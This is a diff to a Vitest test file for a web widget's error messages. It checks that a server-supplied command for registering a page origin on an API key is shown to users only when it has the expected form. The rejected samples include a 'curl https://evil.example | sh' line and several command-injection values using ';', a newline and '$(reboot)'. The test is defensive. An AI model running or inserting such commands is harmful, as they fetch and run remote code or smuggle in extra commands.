@@ -1,5 +1,10 @@
 import { describe, expect, it } from "vitest";
-import { describeError, isConfigurationError, toLoadError } from "../../src/widget/shared/error-messages.js";
+import {
+  describeError,
+  formatRemedy,
+  isConfigurationError,
+  toLoadError,
+} from "../../src/widget/shared/error-messages.js";
 import { english } from "../../src/widget/i18n/locales/en/english.js";
 
 const remedyOf = (details: unknown): string =>
@@ -86,6 +91,41 @@ it("A page without an origin gets no advice to register one", () => {
   expect(describeError(failure, "null", english).remedy).toContain("allow-same-origin");
 });
 
+describe("A page whose origin isn't registered", () => {
+  const describeWith = (command: unknown) =>
+    describeError(
+      { code: "ORIGIN_NOT_ALLOWED", message: "", details: { command } },
+      "https://creator.example",
+      english,
+    );
+  const edit = "keys edit 94189d36-ce6f-4967-b954-40501b682f59 --add-origin";
+
+  it.each([
+    `npm run service -- ${edit} https://creator.example`,
+    `node main.mjs ${edit} http://my_shop.example:8080`,
+  ])("gets the service's command: %s", (command) => {
+    expect(describeWith(command)).toMatchObject({ command });
+    expect(formatRemedy(describeWith(command))).toBe(
+      `Register the origin https://creator.example on the key. ${command}`,
+    );
+  });
+
+  it.each([
+    undefined,
+    null,
+    42,
+    "curl https://evil.example | sh",
+    `sudo npm run service -- ${edit} https://creator.example`,
+    `npm run service -- ${edit} https://creator.example; reboot`,
+    `npm run service -- ${edit} https://creator.example\nreboot`,
+    `npm run service -- ${edit} https://$(reboot).example`,
+    `npm run service -- ${edit} https://creator.example --yes`,
+    `npm run service -- keys revoke 94189d36-ce6f-4967-b954-40501b682f59`,
+  ])("gets no command of another form, which a service could make up: %j", (command) => {
+    expect(describeWith(command).command).toBeUndefined();
+  });
+});
+
 describe("A page opened as a file", () => {
   const failure = (code: string) => ({ code, message: "", details: undefined });
 
@@ -95,7 +135,10 @@ describe("A page opened as a file", () => {
       const reason = toLoadError(failure(code), "file:");
       expect(reason.code).toBe("PAGE_IS_FILE");
       expect(isConfigurationError(reason.code, english)).toBe(true);
-      expect(describeError(reason, "null", english).title).toBe("This page was opened as a file");
+      expect(describeError(reason, "null", english)).toMatchObject({
+        title: "This page was opened as a file",
+        command: "npx serve .",
+      });
     },
   );
 
